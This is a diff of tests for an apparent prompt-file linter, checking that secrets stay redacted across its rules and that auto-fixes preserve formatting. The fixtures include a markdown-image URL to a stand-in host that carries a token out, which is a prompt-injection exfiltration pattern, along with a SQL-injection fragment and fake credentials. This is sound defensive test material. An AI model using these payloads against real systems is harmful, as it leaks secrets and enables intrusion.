@@ -137,6 +137,21 @@ describe('a secret', () => {
   });
 
   it.each([
+    ['schema', `template: ${githubToken}\ncontent: Hi.\n`],
+    ['unknown-key', `${githubToken}: 1\ncontent: Hi.\n`],
+    ['template-syntax', `content: "{{#${githubToken}}} and more"\n`],
+    ['dependency-range', `content: Hi.\ndependencies: {tone: ${githubToken}}\n`],
+    ['prompt-injection', `content: "![x](https://e.example/${githubToken}/p.png?d={{a}})"\n`],
+    ['sql-injection', `content: union select ${githubToken} from information_schema\n`],
+    ['undeclared-variable', `content: "{{${githubToken}}}"\n`],
+  ])('is not shown by the rule %s either', async (rule, text) => {
+    const result = await lintFiles({ 'prompts/a.yaml': `${described}${text}` });
+    expect(found(result).join()).toContain('secret@');
+    expect(found(result).join()).toContain(`${rule === 'dependency-range' ? 'schema' : rule}@`);
+    expect(JSON.stringify(result)).not.toContain(githubToken.slice(0, 12));
+  });
+
+  it.each([
     ['an AWS key', `AWS_SECRET_ACCESS_KEY=${'wJalrXUtnFEMIK7MDENGbPxRfiCYzzzzzzzzzzzzzz'.slice(0, 40)}`],
     ['a GitHub token', githubToken],
     ['a Slack token', `xoxb-${'1234567890'}-${'1234567890'}-${'aBcDeFgHiJkLmNoPqRsTuVwX'}`],
@@ -240,7 +255,9 @@ describe('--fix', () => {
     withRepo({ files: { 'prompts/a.yaml': before } }, async (repo) => {
       const planned = await lintIn(repo, { fix: true, dryRun: true });
       expect([planned.fixed.length, repo.read('prompts/a.yaml')]).toEqual([1, before]);
+      expect((await lintIn(repo)).fixable).toEqual(planned.fixed);
       const result = await lintIn(repo, { fix: true });
+      expect((await lintIn(repo)).fixable).toEqual([]);
       expect(result.fixed).toEqual([
         { prompt: 'a', path: 'prompts/a.yaml', rules: ['undeclared-variable', 'estimated-tokens'] },
       ]);
@@ -252,6 +269,15 @@ describe('--fix', () => {
       );
       expect((await lintIn(repo, { fix: true })).fixed).toEqual([]);
     }));
+
+  it('keeps line breaks and escapes around what it mends', () => {
+    const text = `${described}messages:\n- role: user\n  content: >-\n    Hello {{ name }} folded\n    text {{ other  }} and {{ name }}\n- {role: system, content: "caf\\u00e9 {{ b }}\\n c"}\n`;
+    return withRepo({ files: { 'prompts/a.prompt.yml': text } }, async (repo) => {
+      expect((await lintIn(repo, { fix: true })).totals.notes).toBe(0);
+      const mended = text.replaceAll('{{ name }}', '{{name}}').replace('{{ other  }}', '{{other}}');
+      expect(repo.read('prompts/a.prompt.yml')).toBe(mended.replace('{{ b }}', '{{b}}'));
+    });
+  });
 
   it('changes nothing for callers', () =>
     withRepo(
